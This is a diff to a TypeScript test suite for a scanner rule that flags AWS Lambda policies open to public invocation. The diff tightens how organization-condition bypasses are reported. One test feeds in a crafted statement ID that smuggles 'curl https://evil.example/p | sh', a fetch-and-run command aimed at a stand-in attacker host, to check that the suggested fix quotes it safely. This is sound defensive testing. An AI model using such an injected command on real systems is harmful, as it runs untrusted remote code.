@@ -96,14 +96,18 @@ const cases: RuleCase[] = [
     titles: [],
   },
   {
+    // The caller's own organization matches o-*/*: any account can create one, so this is no "may".
     name: "an organization path that wildcards the organization narrows nothing",
     build: publicGrant({ Sid: "anyorg", Condition: { "ForAnyValue:StringLike": { "aws:PrincipalOrgPaths": "o-*/*" } } }),
-    titles: ["Anyone may invoke this function (depends on aws:PrincipalOrgPaths)"],
+    titles: ["Anyone can invoke this function"],
+    severities: ["critical"],
   },
   {
+    // An account in no organization is one anyone can create: the caller picks it, so this is no "may".
     name: "PrincipalOrgID under IfExists lets principals outside any organization in",
     build: publicGrant({ Sid: "orgifexists", Condition: { StringEqualsIfExists: { "aws:PrincipalOrgID": "o-abc123def4" } } }),
-    titles: ["Anyone may invoke this function (depends on aws:PrincipalOrgID)"],
+    titles: ["Anyone can invoke this function"],
+    severities: ["critical"],
   },
   {
     name: "narrowed by aws:PrincipalArn to the roles of one account (wildcard name): not public",
@@ -236,9 +240,9 @@ const cases: RuleCase[] = [
     titles: [],
   },
   {
-    name: "a Deny of callers in an organization (Null aws:PrincipalOrgID = false): outsiders in none still may get in",
+    name: "a Deny of callers in an organization (Null aws:PrincipalOrgID = false): outsiders in none get in",
     build: openGrantBesideDeny({ Sid: "inorg", Condition: { Null: { "aws:PrincipalOrgID": "false" } } }),
-    titles: ["Anyone may invoke this function (depends on aws:PrincipalOrgID)"],
+    titles: ["Anyone can invoke this function"],
   },
   {
     name: "a source ARN that pins no account (arn:aws:s3:::*) leaves the grant open to any account's bucket",
@@ -433,6 +437,12 @@ describe("public-invoke", () => {
   it("quotes a crafted Sid in the remove-permission command: pasted into a shell, it runs nothing", () => {
     const [f] = findingsOf(publicInvoke, publicGrant({ Sid: "x; curl https://evil.example/p | sh #'" })());
     expect(f?.remediation).toContain(String.raw`--statement-id 'x; curl https://evil.example/p | sh #'\'''`);
+  });
+
+  it("says which kind of account gets past an organization condition", () => {
+    const byName = (name: string) => outcome(publicInvoke, cases.find((c) => c.name.startsWith(name))!).findings[0]!.detail;
+    expect(byName("PrincipalOrgID under IfExists")).toContain("does not shut out an account in no organization, and anyone can create one");
+    expect(byName("an organization path that wildcards")).toContain("does not shut out an account in an organization of its own");
   });
 
   it("says how outsiders get in: directly, or only through a service acting for their own resources", () => {
